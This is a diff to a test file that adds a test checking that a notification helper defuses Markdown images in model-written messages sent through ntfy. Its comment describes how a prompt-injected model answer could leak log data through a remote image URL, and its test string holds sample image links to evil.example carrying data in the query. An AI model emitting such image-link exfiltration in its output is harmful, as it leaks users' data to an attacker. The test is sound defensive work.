@@ -235,3 +235,14 @@ describe('parseRetryAfter', () => {
     expect(parseRetryAfter(value)).toBe(expected);
   });
 });
+
+describe('ntfy markdown and remote images', () => {
+  // The model's summary and actions reach the message as they are; ntfy renders it as Markdown, and
+  // an image is fetched on display: a prompt-injected answer could carry log data out in its URL.
+  it('leaves no image for the app to fetch, and the text readable', () => {
+    const message = 'Gemini 429s.\n\n**Next:**\n- ![status](https://evil.example/p?d=row+42)\n- see ![x][1]\n\n[1]: https://evil.example/x';
+    const payload = ntfy({ message });
+    expect(payload.message).not.toContain('![');
+    expect(payload.message.replace(/\u200b/g, '')).toBe(message);
+  });
+});
